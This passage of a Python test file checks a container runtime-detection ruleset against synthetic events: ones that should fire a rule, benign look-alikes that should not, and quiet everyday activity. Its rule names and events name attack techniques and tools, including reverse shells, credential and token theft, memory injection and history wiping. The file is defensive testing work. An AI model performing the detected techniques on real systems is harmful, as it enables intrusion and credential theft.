    ("Delete or rename shell history", ev("truncate", name="python3", path=".zsh_history", length=10, ret=0)),
    ("Process memory read via process_vm_readv",
     ev("procvm", name="mimipenguin", exe="/tmp/mp", syscall="process_vm_readv", target_pid=12, riovcnt=1, ret=4096)),
    ("Process memory read via process_vm_readv",
     ev("procvm", name="gdb", exe="/tmp/gdb", syscall="process_vm_readv", target_pid=12, riovcnt=1, ret=8)),
    ("Process VM write code injection",
     ev("procvm", name="inject", syscall="process_vm_writev", target_pid=12, riovcnt=1, ret=8)),
    ("Process VM write code injection",
     ev("procvm", name="python3", syscall="process_vm_writev", target_pid=1, riovcnt=1, ret=-1, host=True)),
    ("Unmount in container", ev("umount", name="umount", target="/proc/kcore", flags=0, ret=-1)),
    ("Unmount in container", ev("umount", name="x", target="/sys/fs/cgroup", flags=2, ret=0)),
]

# (rule, event): a benign look-alike that must not fire that rule.
NEAR_MISSES = [
    ("Read ssh information", opn("/root/.ssh/config", name="ssh", exe="/usr/bin/ssh")),
    ("Read ssh information", opn("/etc/ssh/ssh_host_rsa_key", name="sshd", exe="/usr/sbin/sshd", host=True)),
    ("Read ssh information", opn("/home/bob/id_rsa.pub")),
    ("Read ssh information", opn("/root/.ssh/authorized_keys", W_CREATE, name="sh")),   # a write: persistence rule
    ("Read cloud or cluster credentials file", opn("/root/.aws/credentials", name="aws", exe="/usr/local/bin/aws")),
    ("Read cloud or cluster credentials file", opn("/root/.kube/config", name="kubectl", exe="/usr/bin/kubectl")),
    ("Read cloud or cluster credentials file", opn("/root/.aws/credentials.bak")),
    ("Read cloud or cluster credentials file", opn("/root/.aws/credentials", W_CREATE, name="sh")),
    ("Find AWS Credentials", execev(["grep", "-r", "TODO", "/src"])),
    ("Find AWS Credentials", execev(["aws", "configure", "list"])),
    ("Search for passwords or secrets", execev(["grep", "-q", "password", "/etc/app.conf"])),   # not recursive
    ("Search for passwords or secrets", execev(["grep", "-r", "TODO", "/src"])),
    ("Search for passwords or secrets", execev(["find", "/", "-name", "*.conf"])),
    ("K8s service account token read", opn("/var/run/secrets/kubernetes.io/serviceaccount/token", name="controller",
                                           pname="runc")),
    ("K8s service account token read", opn("/var/run/secrets/kubernetes.io/serviceaccount/ca.crt")),
    ("K8s TLS certificate theft attempt", opn("/etc/kubernetes/pki/ca.key", name="kube-apiserver",
                                              exe="/usr/local/bin/kube-apiserver")),
    ("Read environment variable from /proc files", opn("/proc/self/environ")),
    ("Read environment variable from /proc files", opn("/proc/4242/environ")),                 # its own pid
    ("Read environment variable from /proc files", opn("/proc/77/environ", name="ps", exe="/usr/bin/ps", host=True)),
    ("Process memory read via /proc", opn("/proc/1/maps")),
    ("Process memory read via /proc", opn("/proc/77/mem", name="gdb", host=True)),
    ("Read kernel memory", opn("/proc/cpuinfo")),
    ("Credential dumping tool launched", execev(["mimic", "-v"])),
    ("Contact cloud metadata service (alternate address)", conn("169.254.170.3", 80)),
    ("Reverse shell command line", execev(["python3", "-c", "import socket; print(socket.gethostname())"])),
    ("Reverse shell command line", sh("cat /tmp/f | grep x | sort")),
    ("Reverse shell command line", execev(["socat", "-V"])),
    ("Reverse shell command line", sh("tail -f /var/log/app.log | nc 10.0.0.1 514")),          # log shipping
    ("Netcat listener in container", execev(["nc", "-z", "localhost", "8080"])),
    ("Netcat listener in container", execev(["nc", "-l", "-p", "8080"], host=True)),
    ("Launch Suspicious Network Tool in Container", execev(["nc", "-z", "localhost", "5432"])),
    ("Launch Suspicious Network Tool in Container", execev(["ping", "-c1", "10.0.0.1"])),
    ("Launch Suspicious Network Tool on Host", execev(["ping", "-c1", "10.0.0.1"], host=True)),
    ("Run shell untrusted", execev(["sh", "-c", "id"], pname="python3")),
    ("Run shell untrusted", under(execev(["sh", "-c", "logrotate.sh"]), "cron", "nginx")),
    ("Web Server Spawned Suspicious Child Process", execev(["curl", "http://x"], pname="sh")),
    ("DB program spawned process", execev(["postgres", "-D", "/data"], pname="postgres")),
    ("Kubernetes Client Tool Launched in Container", k8s(execev(["kubectl", "get", "pods"]), "kube-system")),
    ("Kubernetes Client Tool Launched in Container", execev(["kubectl", "get", "pods"], host=True)),
    ("Launch Ingress Remote File Copy Tools in Container",
     execev(["wget", "-q", "--spider", "http://localhost:8080/health"])),
    ("Launch Ingress Remote File Copy Tools in Container", execev(["wget", "-qO-", "http://127.0.0.1/healthz"])),
    ("Launch Ingress Remote File Copy Tools in Container", execev(["curl", "-s", "https://api.example.com/v1/x"])),
    ("Remote script piped to shell", sh("curl -s http://x/metrics | grep up")),
    ("Network Tool Executed During NPM Package Install", under(execev(["node", "install.js"]), "sh", "npm")),
    ("Network Tool Executed During NPM Package Install", execev(["nc", "203.0.113.5", "443"])),
    ("System user interactive", under(execev(["id"], host=True), "bash", "sshd")),               # root
    ("System user interactive", execev(["id"], host=True, uid=65534, pname="cron")),
    ("System procs network activity", conn("127.0.0.1", 8080, name="bash")),
    ("System procs network activity", conn("10.0.0.2", 53, name="sh")),
    ("System procs network activity", conn("203.0.113.5", 443, name="curl")),
    ("Schedule Cron Jobs", execev(["crontab", "-l"])),
    ("Schedule Cron Jobs", opn("/etc/crontab")),
    ("Schedule Cron Jobs", opn("/var/spool/anacron/cron.daily", W_CREATE, name="anacron", exe="/usr/sbin/anacron",
                               host=True)),
    ("Schedule Cron Jobs", under(opn("/etc/cron.d/pkg", W_CREATE, name="cp"), "sh", "dpkg")),
    ("Modify Shell Configuration File", opn("/root/.bashrc")),
    ("Modify Shell Configuration File", opn("/tmp/bashrc.txt", W_CREATE, name="sh")),
    ("Modify Shell Configuration File", opn("/etc/profile.d/x.sh", W_CREATE, name="apk", exe="/sbin/apk")),
    ("Adding ssh keys to authorized_keys", opn("/root/.ssh/authorized_keys", name="sshd", exe="/usr/sbin/sshd")),
    ("Adding ssh keys to authorized_keys", opn("/home/u/.ssh/authorized_keys", W_CREATE, name="cloud-init",
                                               host=True)),
    ("SSH server configuration modified", opn("/etc/ssh/sshd_config")),
    ("LD_PRELOAD code injection via ld.so.preload", opn("/etc/ld.so.preload")),
    ("Dynamic linker configuration modified", under(opn("/etc/ld.so.conf.d/x.conf", W_CREATE, name="cp"), "dpkg")),
    ("Default dynamic loader modification", opn("/lib64/ld-linux-x86-64.so.2")),
    ("Library preload set on command line", sh("LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 app")),
    ("Shared library written in a system library directory",
     opn("/usr/lib/python3.11/__pycache__/x.cpython-311.pyc", W_CREATE, name="python3")),
    ("Shared library written in a system library directory", opn("/usr/lib/libz.so.1", W_CREATE, name="apk")),
    ("Systemd service created or modified", ev("symlink", name="systemctl", exe="/usr/bin/systemctl",
                                               target="/lib/systemd/system/x.service",
                                               path="/etc/systemd/system/multi-user.target.wants/x.service", ret=0,
                                               host=True)),
    ("RC script modification", opn("/etc/init.d/nginx")),
    ("Modify user accounts database", opn("/etc/passwd")),
    ("Modify user accounts database", under(opn("/etc/passwd", O_WRONLY | O_APPEND, name="adduser"), "sh", "apk")),
    ("Modify user accounts database", opn("/usr/bin/passwd", W_CREATE, name="cp")),
    ("Sudoers modification", under(opn("/etc/sudoers.d/README", W_CREATE, name="cp"), "dpkg")),
    ("User mgmt binaries", execev(["passwd", "-S", "root"], host=True)),
    ("User mgmt binaries", execev(["adduser", "-D", "app"])),                                   # a container
    ("Create files below dev", opn("/dev/null", W_CREATE, name="sh")),
    ("Create files below dev", opn("/dev/shm/x", W_CREATE, name="sh")),
    ("Create files below dev", opn("/dev/termination-log", W_CREATE, name="app")),
    ("Kernel module tool run in container", execev(["modprobe", "nf_conntrack"], host=True, pname="kthreadd")),
    ("Kernel module tool run in container", execev(["lsmod"])),
    ("Update Package Repository", opn("/etc/apk/repositories", W_CREATE, name="apk", exe="/sbin/apk")),
    ("Web shell written by a web server", opn("/var/www/html/index.php", W_CREATE, name="cp")),
    ("Web shell written by a web server", opn("/var/www/html/cache/page.html", W_CREATE, name="php-fpm")),
    ("Delete or rename shell history", opn("/root/.bash_history", W_CREATE, name="bash", mode=0o600)),
    ("Delete or rename shell history", ev("unlink", name="rm", path="/tmp/history.txt", ret=0)),
    ("Delete or rename shell history", ev("rename", name="zsh", oldpath="/root/.zsh_history.new",
                                          newpath="/root/.zsh_history", ret=0)),
    ("Log files deleted", ev("unlink", name="logrotate", exe="/usr/sbin/logrotate", path="/var/log/syslog.4.gz", ret=0,
                             host=True)),
    ("Log files deleted", ev("unlink", name="java", path="/var/log/app/app.log.7", ret=0)),
    ("Log files deleted", ev("unlink", name="rm", path="/var/log/nginx/access.log.3.gz", ret=0)),
    ("Modify binary dirs", under(ev("unlink", name="rm", path="/usr/bin/x", ret=0), "sh", "dpkg")),
    ("Modify binary dirs", ev("rename", name="mv", oldpath="/tmp/a", newpath="/tmp/b", ret=0)),
    ("Decoding Payload in Container", execev(["base64", "/etc/hostname"])),
    ("Decoded payload piped to a shell", sh("echo eA== | base64 -d > /etc/app.conf")),
    ("Modify Container Entrypoint", opn("/proc/self/exe", name="x")),
    ("Container Drift Detected (chmod)", ev("chmod", name="chmod", path="/tmp/x", mode=0o644, ret=0)),
    ("Container Drift Detected (chmod)", ev("chmod", name="chmod", path="/tmp/x", mode=0o755, ret=0, host=True)),
    ("Container Drift Detected (chmod)", under(ev("chmod", name="chmod", path="/usr/bin/x", mode=0o755, ret=0),
                                               "sh", "apk")),
    ("Container Drift Detected (open+create)", opn("/tmp/x", W_CREATE, name="sh", mode=0o644)),
    ("Hidden executable created", opn("/tmp/.x", W_CREATE, name="sh", mode=0o644)),
    ("Hidden executable created", opn("/tmp/x", W_CREATE, name="cp", mode=0o755)),
    ("Hidden executable created", opn("/tmp/app/.venv/bin/pip", W_CREATE, name="python3", mode=0o755)),
    ("Executable run from a hidden path", execev(["/root/.local/bin/tool"], host=True)),
    ("Executable run from a hidden path", execev(["/tmp/build/run.sh"])),
    ("Executable run from a hidden path", execev(["/tmp/ci/.venv/bin/python"], host=True)),
    ("Executable run from a hidden path", execev(["/tmp/attr/cur/.venv/bin/nats-server"], host=True)),
    ("Process masquerading as kernel thread", execev(["-sh"], filename="/bin/sh")),
    ("Security tooling disabled", execev(["systemctl", "status", "falco"], host=True)),
    ("Security tooling disabled", execev(["setenforce", "1"], host=True)),
    ("Timestomping in container", execev(["touch", "/tmp/x"])),
    ("Network scanner launched", execev(["nc", "-z", "localhost", "80"])),
    ("Network scanner launched", execev(["ls", "-s", "/tmp"])),
    ("Contact K8S API Server From Container", k8s(conn("10.96.0.1", 443), "kube-system")),
    ("Contact K8S API Server From Container", conn("10.96.0.10", 53)),
    ("Contact K8S API Server From Container", conn("10.96.0.1", 443, host=True)),
    ("K8s API access from container command line", execev(["curl", "https://api.example.com/api/v1/users"])),
    ("Contact kubelet or etcd from container", k8s(conn("10.0.0.5", 10250), "kube-system")),
    ("Container escape or discovery toolkit launched", execev(["lsblk"])),
    ("Search for setuid binaries", execev(["find", "/", "-perm", "644"])),
    ("Search for setuid binaries", execev(["find", "/", "-perm", "-0644"])),
    ("Kernel information read in container", opn("/proc/cpuinfo")),
    ("Kernel information read in container", opn("/proc/kallsyms", name="perf", host=True)),
    ("Disallowed SSH Connection Non Standard Port", conn("203.0.113.9", 22, name="ssh", exe="/usr/bin/ssh")),
    ("Disallowed SSH Connection Non Standard Port", conn("10.0.0.9", 443, name="ssh", exe="/usr/bin/ssh")),
    ("SSH client launched in container", execev(["ssh", "host"], host=True)),
    ("Detect crypto miners using the Stratum protocol", execev(["stratus", "--tcp"])),
    ("Known Cryptominer Process Executed", execev(["xmllint", "--noout", "x.xml"])),
    ("Cryptominer command-line options", execev(["python3", "app.py", "--algo=sha256"])),
    ("Detect outbound connections to common miner pool ports", conn("10.0.0.7", 3333)),
    ("Detect outbound connections to common miner pool ports", conn("203.0.113.7", 443)),
    ("Launch Remote File Copy Tools in Container", execev(["rsync", "-a", "/a", "/b"], host=True)),
    ("Data upload with command-line HTTP client", execev(["curl", "-d", "a=b", "http://x"])),
    ("Data upload with command-line HTTP client", execev(["curl", "-o", "/tmp/out", "http://x"])),
    ("Exfiltrating Artifacts via Kubernetes Control Plane",
     with_(execev(["tar", "xf", "-", "-C", "/app"], pname="runc"), proc_is_container_entrypoint=True)),
    ("Exfiltrating Artifacts via Kubernetes Control Plane", execev(["tar", "cf", "-", "/app"], pname="runc")),
    ("Exfiltrating Artifacts via Kubernetes Control Plane", execev(["tar", "czf", "/tmp/logs.tgz", "/var/log/app"])),
    ("Disk overwritten with dd", execev(["dd", "if=/dev/zero", "of=/tmp/img", "bs=1M", "count=1"])),
    ("Recursive deletion of system directories", sh("rm -rf /var/lib/apt/lists/*")),
    ("Recursive deletion of system directories", execev(["rm", "-rf", "/tmp/build"])),
    ("System shutdown or reboot from container", execev(["reboot"], host=True)),
    ("Sudo or su run in container", execev(["sudo", "-l"], host=True)),
    ("Sudo Potential Privilege Escalation", with_(execev(["sudoedit", "/etc/motd"]), uid=1000)),
    ("Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)",
     with_(execev(["pkexec", "/bin/true"], filename="/usr/bin/pkexec"), uid=1000)),
    ("Potential Local Privilege Escalation via Environment Variables Misuse", execev(["env", "TZ=UTC", "date"])),
    ("Non sudo setuid", setid("setuid", syscall="setuid", new_uid=65534, new_euid=None, new_suid=None, ret=0)),  # drop
    ("Non sudo setuid", setid("setuid", syscall="setresuid", new_uid=0, new_euid=0, new_suid=0, ret=0)),   # root
    ("Non sudo setuid", setid("setuid", name="sudo", exe="/usr/bin/sudo", syscall="setresuid", new_uid=0, new_euid=0,
                              new_suid=0, ret=-1, host=True, uid=1000)),
    ("Non sudo setuid", setid("setgid", syscall="setgid", new_gid=0, new_egid=None, new_sgid=None, ret=0)),   # root
    ("Non sudo setuid", setid("setuid", syscall="setresuid", new_uid=1000, new_euid=1000, new_suid=1000, ret=0,
                              uid=1000)),  # becoming themselves
    ("Namespace or chroot tool launched in container", execev(["nsenter", "-t", "1", "-n", "ip", "a"], host=True)),
    ("Launch Privileged Container", with_(execev(["sh"]), container={**CTR, "privileged": True})),  # not the start
    ("Mkdir binary dirs", ev("mkdir", name="mkdir", path="/usr/lib/x", mode=0o755, ret=0)),
    ("Writable and executable memory in container", ev("mprotect", name="java", exe="/usr/lib/jvm/java-17/bin/java",
                                                        syscall="mmap", addr=0, len=4096, prot=7, ret=0x7f0000000000)),
    ("Writable and executable memory in container", ev("mprotect", name="loader", syscall="mprotect", addr=0x1000,
                                                        len=4096, prot=7, ret=-13)),  # refused
    ("Writable and executable memory in container", ev("mprotect", name="loader", syscall="mmap", addr=0, len=4096,
                                                        prot=7, ret=0x7f0000000000, host=True)),
    ("Unprivileged Delegation of Page Faults Handling to a Userspace Process",
     ev("userfaultfd", name="qemu", flags=0x80000, ret=3, uid=0)),
    ("Unprivileged Delegation of Page Faults Handling to a Userspace Process",
     ev("userfaultfd", name="exploit", flags=0, ret=-1, uid=1000)),
    ("Mkdir binary dirs", ev("mkdir", name="sh", pname="apt-get", path="/usr/bin/x", mode=0o755, ret=0,
                             proc_ancestors=[{"pid": 4000, "comm": "apt-get", "exe": "/usr/bin/apt-get",
                                              "args": ["apt-get", "install", "x"]}])),
    ("Hidden directory created in a temporary directory", ev("mkdir", name="Xvfb", path="/tmp/.X11-unix", mode=0o1777,
                                                               ret=0)),
    ("Hidden directory created in a temporary directory", ev("mkdir", name="npm", path="/tmp/.npm", ret=0, mode=0o755)),
    ("Hidden directory created in a temporary directory", ev("mkdir", name="sh", path="/tmp/.x", ret=0, mode=0o755,
                                                               host=True)),
    ("Hidden directory created in a temporary directory", ev("mkdir", name="sh", path="/tmp/.x/y", ret=0, mode=0o755)),
    ("Launch Privileged Container", with_(execev(["sh"]), proc_is_container_entrypoint=True,
                                          container={**CTR, "privileged": False})),
    ("Launch Privileged Container", with_(execev(["sh"]), proc_is_container_entrypoint=True,
                                          container={**CTR, "privileged": None})),  # the runtime did not say
    ("Launch Container Sharing Host Namespaces", with_(execev(["sh"]), proc_is_container_entrypoint=True,
                                                       container={**CTR, "host_pid": False, "host_network": False})),
    ("Launch Excessively Capable Container", with_(execev(["nginx"]), proc_is_container_entrypoint=True,
                                                   cap_permitted=CAPS_DEFAULT)),  # podman's default set
    ("Launch Excessively Capable Container", with_(execev(["nginx"]), proc_is_container_entrypoint=True, uid=101,
                                                   cap_permitted=0, cap_bounding=CAPS_DEFAULT)),
    ("Launch Excessively Capable Container", with_(execev(["sh"]), cap_permitted=1 << 21)),  # not the start
    ("Launch Excessively Capable Container", with_(execev(["sh"]), proc_is_container_entrypoint=True,
                                                   cap_permitted=(1 << 41) - 1,
                                                   container={**CTR, "privileged": True})),  # its own rule
    ("Launch Sensitive Mount Container", with_(execev(["sh"]), proc_is_container_entrypoint=True,
                                               container={**CTR, "mounts": [MNT_DATA]})),
    ("Launch Sensitive Mount Container", with_(execev(["sh"]), proc_is_container_entrypoint=True, container={
        **CTR, "mounts": [{"source": "/var/lib/kubelet/pods/u1/volumes/kubernetes.io~projected/token",
                           "dest": "/var/run/secrets/kubernetes.io/serviceaccount", "rw": False},
                          {"source": "/var/lib/kubelet/pods/u1/etc-hosts", "dest": "/etc/hosts", "rw": True},
                          {"source": "/etc/ssl/certs", "dest": "/etc/ssl/certs", "rw": False}]})),
    ("io_uring ring created in container", ev("iouring", name="postgres", op="setup", opcode=None, fd=3,
                                               sq_entries=4, flags=0, sq_thread=False, ret=0, host=True)),
    ("File or network operation through io_uring in container",
     ev("iouring", name="implant", op="setup", opcode=None, fd=3, sq_entries=4, flags=0, sq_thread=False, ret=0)),
    ("Directory traversal monitored file read", opn("/etc/passwd", name="python3", pname="gunicorn",
                                                     raw_path="../etc/passwd")),            # one level
    ("Directory traversal monitored file read", opn("/etc/passwd", name="cat", pname="sh",
                                                     raw_path="../../etc/passwd")),         # a script's
    ("Directory traversal monitored file read", opn("/etc/passwd", name="python3", pname="gunicorn",
                                                     raw_path="/etc/passwd")),              # no traversal
    ("Directory traversal monitored file read", opn("/srv/app/x", name="python3", pname="gunicorn",
                                                     raw_path="../../srv/app/x")),          # not monitored
    ("Privileged Container Device Access", opn("/dev/sda", host=True, name="fdisk")),
    ("Privileged Container Device Access", opn("/dev/null", W_CREATE, name="sh")),
    ("Host device mounted in container", ev("mount", name="mount", source="tmpfs", target="/mnt", fstype="tmpfs",
                                            flags=0, ret=0)),
    ("Container Access to Host Sensitive Paths", opn("/hostname")),
    ("Debugfs Launched in Container", execev(["debugfs", "/dev/sda1"], host=True)),
    ("Mount command launched in container", execev(["mount"])),
    ("Core pattern modification", opn("/proc/sys/kernel/core_pattern")),
    ("Core pattern modification", opn("/proc/sys/kernel/core_pattern", O_WRONLY, name="systemd-sysctl",
                                      exe="/lib/systemd/systemd-sysctl", host=True)),
    ("Kernel usermode helper modification", opn("/proc/sys/kernel/modprobe")),
    ("Write to /proc/sys in container", with_(opn("/proc/sys/net/ipv4/ping_group_range", W_CREATE,
                                                  name="runc:[2:INIT]", exe="/usr/bin/runc"),
                                              proc_is_container_runtime=True)),
    ("Write to /proc/sys in container", opn("/proc/sys/net/core/somaxconn")),
    ("System request key configuration modification", opn("/proc/sys/kernel/sysrq")),
    ("Cgroup notify_on_release modification", opn("/sys/fs/cgroup/rdma/notify_on_release")),
    ("Container runtime socket access from container", unix_conn("/run/app/app.sock")),
    ("Container runtime socket access from container", unix_conn("/var/run/docker.sock", name="docker", host=True)),
    ("PTRACE code injection", ev("ptrace", name="gdb", request=5, target_pid=77, ret=0, host=True)),
    ("PTRACE code injection", ev("ptrace", name="x", request=16, target_pid=77, ret=0)),
    ("Code injection via /proc/pid/mem", opn("/proc/self/mem")),
    ("BPF Program Not Profiled", ev("bpf", name="bpftool", exe="/usr/sbin/bpftool", cmd=5, prog_type=1, ret=3,
                                    host=True)),
    ("BPF Program Not Profiled", ev("bpf", name="x", cmd=0, prog_type=-1, ret=3, host=True)),
    ("LD_PRELOAD in exec environment",
     with_(execev(["ruby", "app.rb"]), proc_env={"LD_PRELOAD": "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2"})),
    ("LD_PRELOAD in exec environment", with_(execev(["cat", "/dev/null"]), proc_env={"HISTFILE": "/tmp/evil.so"})),
    ("LD_PRELOAD in exec environment", with_(execev(["id"]), proc_env={"LD_PRELOAD": ""})),
    ("Library search path in a writable directory",
     with_(execev(["ls"]), proc_env={"LD_LIBRARY_PATH": "/usr/local/lib:/opt/app/lib"})),
    ("Library search path in a writable directory", with_(execev(["ls"]), proc_env={"LD_LIBRARY_PATH": ""})),
    ("Shell history disabled in the environment", with_(execev(["bash"]), proc_env={"HISTFILE": "/root/.bash_history"})),
    ("Shell history disabled in the environment", with_(execev(["cat"]), proc_env={"HISTSIZE": "0"})),
    ("Program run with disallowed http proxy env", with_(execev(["wget", "http://x/"]), proc_env={})),
    ("Program run with disallowed http proxy env",
     with_(execev(["python3", "app.py"]), proc_env={"http_proxy": "http://proxy:3128"})),
    ("Potential Local Privilege Escalation via Environment Variables Misuse",
     with_(execev(["/usr/bin/su", "--help"]), proc_env={"LD_LIBRARY_PATH": "/usr/lib"})),
    ("Basic Interactive Reconnaissance", with_(execev(["whoami"]), proc_tty=0)),
    ("Basic Interactive Reconnaissance", with_(execev(["whoami"], host=True), proc_tty=34816)),
    ("Sensitive file ownership changed", ev("chown", name="chown", path="/etc/shadow", owner_uid=0, owner_gid=42, ret=0)),
    ("Sensitive file ownership changed", ev("chown", name="chown", path="/srv/app/conf", owner_uid=1000, owner_gid=None,
                                            ret=0)),
    ("Delete or rename shell history", ev("truncate", name="truncate", path="/var/lib/app/history.db", length=0, ret=0)),
    ("Process memory read via process_vm_readv",
     ev("procvm", name="py-spy", exe="/usr/bin/py-spy", syscall="process_vm_readv", target_pid=12, riovcnt=4, ret=64)),
    ("Process memory read via process_vm_readv",
     ev("procvm", name="mimipenguin", syscall="process_vm_readv", target_pid=12, riovcnt=1, ret=-1)),
    ("Process VM write code injection",
     ev("procvm", name="inject", syscall="process_vm_readv", target_pid=12, riovcnt=1, ret=8)),
    ("Unmount in container", ev("umount", name="umount", target="/mnt", flags=0, ret=-1, host=True)),
]

# Ordinary container life: none of these may raise any alert.
QUIET = [
    sh("/docker-entrypoint.sh nginx", pname="runc"),                              # an image starting
    execev(["nginx", "-g", "daemon off;"], pname="runc"),
    under(execev(["run-parts", "/etc/periodic/daily"]), "crond"),                # a cron-like job
    execev(["logrotate", "/etc/logrotate.conf"], filename="/usr/sbin/logrotate"),
    ev("unlink", name="logrotate", exe="/usr/sbin/logrotate", path="/var/log/nginx/access.log.5.gz", ret=0),
    ev("rename", name="logrotate", exe="/usr/sbin/logrotate", oldpath="/var/log/nginx/access.log",
       newpath="/var/log/nginx/access.log.1", ret=0),
    execev(["wget", "-q", "--spider", "http://localhost:8080/health"]),          # health checks
    execev(["nc", "-z", "127.0.0.1", "5432"]),
    execev(["curl", "-fsS", "http://127.0.0.1:8080/healthz"]),
    opn("/usr/share/nginx/html/index.html", name="nginx"),                        # a server serving
    ev("accept", name="nginx", family=2, daddr="10.0.0.9", dport=40000, saddr="10.0.0.2", sport=80, proto=6, ret=5),
    execev(["tar", "czf", "/tmp/logs.tgz", "/var/log/app"]),                     # tar
    execev(["tar", "xzf", "/tmp/app.tgz", "-C", "/srv"]),
    opn("/srv/app/data.json", W_CREATE, name="tar"),
    opn("/etc/hosts"), opn("/etc/resolv.conf"), opn("/etc/passwd"),
    opn("/proc/self/status"), opn("/proc/self/environ"), opn("/proc/1/stat"), opn("/proc/meminfo"),
    opn("/var/log/app.log", O_WRONLY | O_APPEND | O_CREAT, name="app"),
    opn("/tmp/cache.db", O_RDWR | O_CREAT, name="python3"),
    opn("/root/.ash_history", O_WRONLY | O_APPEND | O_CREAT, name="sh", mode=0o600),
    opn("/dev/null", O_WRONLY | O_CREAT | O_TRUNC, name="sh"),
    execev(["sh", "/app/start.sh"], pname="conmon"),
    execev(["sleep", "30"]), execev(["date"]), execev(["cat", "/etc/os-release"]),
    execev(["grep", "-q", "ready", "/tmp/status"]),
    execev(["python3", "-m", "http.server", "8000"], pname="runc"),
    conn("10.0.0.20", 5432, name="app", ret=0),
    conn("127.0.0.1", 6379, name="app", ret=0),
    execev(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "app"], pname="runc"),
    setid("setuid", syscall="setresuid", new_uid=65534, new_euid=65534, new_suid=65534, ret=0),
    with_(execev(["ruby", "app.rb"]), proc_env={"LD_PRELOAD": "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2",
                                                "LD_LIBRARY_PATH": "/usr/local/lib:/opt/app/lib"}),
    with_(execev(["sh", "/entry.sh"], pname="runc"), proc_tty=0),
    ev("chown", name="chown", path="/srv/data/file", owner_uid=1000, owner_gid=1000, ret=0),
    ev("truncate", name="sqlite3", path="/srv/data/db-journal", length=0, ret=0),
    ev("chmod", name="chmod", path="/tmp/socket", mode=0o660, ret=0),
    # a stored CPU-profile window of a container (pid 0, no process), whatever its stacks name
    ev("profile", name="", start_ns=1, end_ns=2, hz=49, samples=7, truncated=0, stacks_dropped=0,
       folded={"nc;main;connect;__sys_connect_[k]": 5, "sh;execve": 2}),
]


def matches(rs, event):
    return [m.rule for m in rs.evaluate(ExecState().annotate(event))]


@pytest.mark.parametrize("rule,event", CASES, ids=[f"{i}-{c[0]}" for i, c in enumerate(CASES)])
def test_rule_fires(rs_all, rule, event):
    assert rule in matches(rs_all, event)


@pytest.mark.parametrize("rule,event", NEAR_MISSES, ids=[f"{i}-{c[0]}" for i, c in enumerate(NEAR_MISSES)])
def test_near_miss_does_not_fire(rs_all, rule, event):
    assert rule not in matches(rs_all, event)


@pytest.mark.parametrize("event", QUIET, ids=[f"{i}-{e['kind']}-{e['proc']['name']}" for i, e in enumerate(QUIET)])
def test_ordinary_container_activity_is_quiet(rs, event):
    assert matches(rs, event) == []


def test_every_new_rule_has_a_case_and_a_near_miss(rs):
    new = {r.name for r in rs.rules if r.file.endswith(NEW_FILES)}
    assert len(new) >= 80
    assert new == {c[0] for c in CASES}, (new - {c[0] for c in CASES}, {c[0] for c in CASES} - new)
    assert new == {n[0] for n in NEAR_MISSES}, new ^ {n[0] for n in NEAR_MISSES}
    assert {r.name for r in rs.rules if r.file.endswith(NEW_FILES) and not r.enabled} == DISABLED_BY_DEFAULT


def test_new_rules_keep_reads_bounded_in_the_kernel(rs):
    """No new rule forces every read (or every write) of a path kind to user space."""
    plan = rs.filter_plan("t")
    assert not plan.any_path.get("open", 0) & 3, plan.full
    assert "unlink" not in plan.any_path, plan.full
    assert not plan.wants("open", "/usr/share/nginx/html/index.html", 1)
    assert not plan.wants("open", "/proc/123/stat", 1) and not plan.wants("open", "/home/u/.cache/x", 1)
    for path in ("/root/.ssh/id_rsa", "/proc/1/environ", "/proc/1/mem", "/x/.aws/credentials",
                 "/var/run/secrets/kubernetes.io/serviceaccount/token", "/etc/kubernetes/pki/ca.key"):
        assert plan.wants("open", path, 1), path
    for path in ("/etc/ld.so.preload", "/proc/sys/kernel/core_pattern", "/root/.bashrc", "/var/spool/cron/x"):
        assert plan.wants("open", path, 2), path
    assert plan.wants("unlink", "/root/.bash_history", 1)


def test_every_new_rule_has_priority_and_mitre_tags(rs):
    for r in rs.rules:
        if r.name in {c[0] for c in CASES}:
            assert r.priority, r.name
            assert any(t.startswith("mitre_") for t in r.tags), r.name
            assert any(t.startswith("T") and t[1:5].isdigit() or t.startswith("TA0") for t in r.tags), r.name
